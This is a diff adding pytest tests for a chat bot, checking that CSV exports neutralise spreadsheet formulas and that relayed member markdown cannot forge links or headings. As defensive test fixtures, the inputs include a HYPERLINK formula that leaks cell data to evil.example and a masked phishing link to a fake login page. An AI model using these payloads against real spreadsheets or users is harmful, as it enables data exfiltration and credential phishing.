@@ -3,14 +3,19 @@ would forge links or headings in a message the bot signs. Generated cases (seede
 names its case and can be re-run)."""
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 import random
 import re
+from pathlib import Path
 
 import pytest
 
+from bot.__main__ import main
+from bot.services.feedback import read_csv
 from bot.services.safety import FORMULA_STARTS, csv_cell, relay, write_csv
+from tests.test_submission_atomic import ALICE, BOB, GUILD, MOD, open_ama, open_app
 
 # --- CSV: formula injection --------------------------------------------------------------------------
 
@@ -164,3 +169,100 @@ def test_the_checker_sees_forgeries():
     assert "masked link" in forged("[a](https://b)")
     assert forged("# big") and forged("x\n-# small") and forged("> q")
     assert forged("\\\\[a](b)")  # an escaped backslash does not escape the bracket
+
+
+# --- where it is applied: every export, every relay ------------------------------------------------
+
+ROOT = Path(__file__).resolve().parent.parent
+
+
+def test_every_csv_the_bot_writes_goes_through_the_neutralising_writer():
+    offenders = []
+    for path in list((ROOT / "bot").rglob("*.py")) + list((ROOT / "cogs").rglob("*.py")):
+        if path.name == "safety.py":
+            continue
+        text = path.read_text(encoding="utf-8")
+        for needle in ("csv.writer(", "csv.DictWriter(", "DictWriter("):
+            if needle in text:
+                offenders.append(f"{path.relative_to(ROOT)}: {needle}")
+    assert not offenders, "write CSV with bot.services.safety.write_csv:\n" + "\n".join(offenders)
+
+
+FORMULAS = ["=1+1", '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a prize")', "@SUM(1)", " +1", "-1+1"]
+
+
+async def test_feedback_export_of_formulas_is_inert(tmp_path):
+    app = await open_app(tmp_path / "k.db")
+    try:
+        for n, text in enumerate(FORMULAS):
+            app.clock.advance(minutes=5)
+            await app.feedback.submit(GUILD, BOB, category="product", title=text, text=text)
+        data, count = await app.feedback.export_csv(GUILD, None)
+    finally:
+        await app.close()
+    assert count == len(FORMULAS)
+    rows = read_csv(data)
+    for row, formula in zip(rows, FORMULAS):
+        for column in ("title", "text"):
+            assert row[column].startswith("'"), (column, row[column])
+            assert row[column][1:] == formula.strip()  # the member's words, as text (the service strips)
+            assert not spreadsheet_would_run(row[column])
+
+
+def test_the_command_line_export_is_inert_too(tmp_path):
+    db = tmp_path / "k.db"
+
+    async def seed():
+        app = await open_app(db)
+        try:
+            await app.feedback.submit(GUILD, BOB, category="product", title="sum", text="=1+1")
+        finally:
+            await app.close()
+
+    asyncio.run(seed())
+    out = tmp_path / "fb.csv"
+    assert main(["export", "feedback", "--db", str(db), "--out", str(out)]) == 0
+    [row] = read_csv(out.read_bytes())
+    assert row["text"] == "'=1+1"
+
+
+MARKDOWN = "[official store](https://evil.example/login)\n# FREE TEA\n-# small print\n> quote"
+
+
+def assert_relayed(text: str) -> None:
+    assert "official store" in text and "https://evil.example/login" in text and "FREE TEA" in text
+    assert forged(text) == [], text
+
+
+async def test_member_markdown_is_relayed_safely_everywhere(tmp_path):
+    app = await open_app(tmp_path / "k.db")
+    try:
+        await open_ama(app)
+        app.outbox.sender.sent.clear()
+        item = await app.feedback.submit(GUILD, BOB, category="product", title="[t](https://evil.example/login)",
+                                         text=MARKDOWN + " scam")
+        await app.feedback.set_status(GUILD, item.id, "planned", actor_id=MOD)
+        await app.membership.apply(GUILD, ALICE, {"favourite": MARKDOWN, "why": MARKDOWN})
+        await app.ama.ask(GUILD, BOB, MARKDOWN)
+        suggestion = await app.participation.prompts.suggest(GUILD, BOB, MARKDOWN)
+        await app.participation.prompts.decide(GUILD, suggestion, MOD, approve=True)
+        await app.outbox.drain()
+        sent = app.outbox.sender.sent
+        where = []
+        for target, message in sent:
+            if target.value == "mod-log":
+                continue
+            parts = [message.content] + [e.get("description") or "" for e in message.embeds] + [
+                f.get("value") or "" for e in message.embeds for f in e.get("fields", ())]
+            if target.kind == "channel_id":  # the AMA thread: the bot quotes the question itself
+                parts[0] = re.sub(r"(?m)^> ", "", parts[0])
+            for part in parts:
+                if "evil.example" in part:
+                    assert forged(part) == [], (target, part)
+                    where.append(target.value)
+        # the public post, the mod-queue copy and card, the status DM, the question, the decision DM
+        assert {"feedback", "mod-queue", str(BOB)} <= set(where)
+        print("\nrelayed safely in:", where)
+        assert len(where) >= 6, where
+    finally:
+        await app.close()
